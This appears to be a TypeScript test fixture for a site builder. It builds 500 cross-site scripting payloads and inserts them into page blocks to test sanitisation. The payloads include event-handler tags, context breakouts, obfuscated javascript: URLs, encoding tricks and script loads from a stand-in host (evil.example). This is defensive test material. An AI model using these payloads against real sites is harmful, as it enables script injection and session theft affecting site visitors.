import type { SiteBlock } from '../../../src/schemas/site';

/** Pieces of markup by which code is smuggled into pages; `RUN` marks what would run. */
const RUN = 'window.__ran=(window.__ran||0)+1';
const TAGS = ['img', 'svg', 'video', 'audio', 'body', 'iframe', 'object', 'embed', 'input', 'details', 'marquee', 'select', 'textarea', 'form', 'math', 'table', 'a', 'div', 'style', 'link'];
const EVENTS = ['onerror', 'onload', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin', 'onanimationstart'];
const BREAKS = ['', '">', "'>", '</title>', '</style>', '</textarea>', '</script>', '-->', ']]>', '</h1></section>'];
const ADDRESSES = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`, ` javascript:${RUN}`, `\u0001javascript:${RUN}`, `javascript&colon;${RUN}`, `&#106;avascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`, `data:image/svg+xml,<svg onload="${RUN}"/>`, `vbscript:${RUN}`, `//evil.example/x.js`, `/\\evil.example`, `\\\\evil.example`, `https://a"onmouseover="${RUN}`, `https://a'><script>${RUN}</script>`,
  `#"><img src=x onerror="${RUN}">`, `mailto:a"><script>${RUN}</script>`, `tel:1"onclick="${RUN}`, `/about"onfocus="${RUN}" autofocus="`,
];

/** 500 texts, each a try of its own. */
export const VECTORS: readonly string[] = [
  ...BREAKS.map((end) => `${end}<script>${RUN}</script>`),
  ...BREAKS.map((end) => `${end}<script src="https://evil.example/x.js"></script>`),
  ...TAGS.flatMap((tag) => EVENTS.map((event) => `<${tag} src=x tabindex=1 autofocus ${event}="${RUN}">x`)),
  ...BREAKS.flatMap((end) => EVENTS.map((event) => `${end}<img/src=x ${event}=${RUN}//`)),
  ...TAGS.map((tag) => `<${tag} style="background:url(javascript:${RUN});animation:x" href="javascript:${RUN}" xlink:href="javascript:${RUN}">x</${tag}>`),
  ...ADDRESSES.flatMap((address) => [`<a href="${address}">x</a>`, `<iframe src="${address}"></iframe>`, `<form action="${address}"><button>x</button></form>`, `<meta http-equiv=refresh content="0;url=${address}">`, `<base href="${address}">`]),
  ...ADDRESSES,
  ...['<svg><script>', '<math><mtext><table><mglyph><style><!--</style>', '<noscript><p title="</noscript>', '<template><script>', '<svg><style>', '<xmp><p title="</xmp>', '<!--<img title="-->', '<![CDATA[', '<select><template>', '<form><math><mtext></form><form><mglyph><style></math>'].flatMap((open) => [
    `${open}<img src=x onerror="${RUN}">`, `${open}${RUN}</script>`, `${open}"><img src=x onerror="${RUN}">`,
  ]),
  ...['<', '%3C', '&lt;', '&#60;', '&#x3c;', '\\u003c', '\uff1c', '\u2039'].flatMap((sign) => [`${sign}script>${RUN}${sign}/script>`, `${sign}img src=x onerror=${RUN}>`, `${sign}svg/onload=${RUN}>`]),
  ...Array.from({ length: 300 }, (_, index) => `${BREAKS[index % BREAKS.length]}<${TAGS[index % TAGS.length]} ${EVENTS[(index * 3) % EVENTS.length]}='${RUN}' data-n=${index}>${'<b>'.repeat(index % 5)}`),
].slice(0, 500);

/** Blocks with a vector wherever a block takes text, two of each kind for each. */
export function blocksOf(vectors: readonly string[]): SiteBlock[] {
  return vectors.flatMap((vector, index): SiteBlock[] => {
    const line = vector.slice(0, 118);
    const kinds: readonly SiteBlock[] = [
      { id: `h${index}`, type: 'hero', props: { heading: line, text: vector, buttonLabel: line.slice(0, 40), buttonAddress: '/about' } },
      { id: `f${index}`, type: 'faq', props: { heading: line, items: [{ question: vector, answer: vector }] } },
      { id: `t${index}`, type: 'testimonials', props: { text: vector, items: [{ quote: vector, name: line.slice(0, 80), role: line.slice(0, 80) }] } },
      { id: `r${index}`, type: 'richText', props: { text: `<p>.</p><p>${vector}</p>${vector}` } },
      { id: `c${index}`, type: 'contact', props: { heading: line, text: vector } },
    ];
    return [kinds[index % kinds.length]!, { id: `rr${index}`, type: 'richText', props: { text: `<p>word</p>${vector}` } }];
  });
}
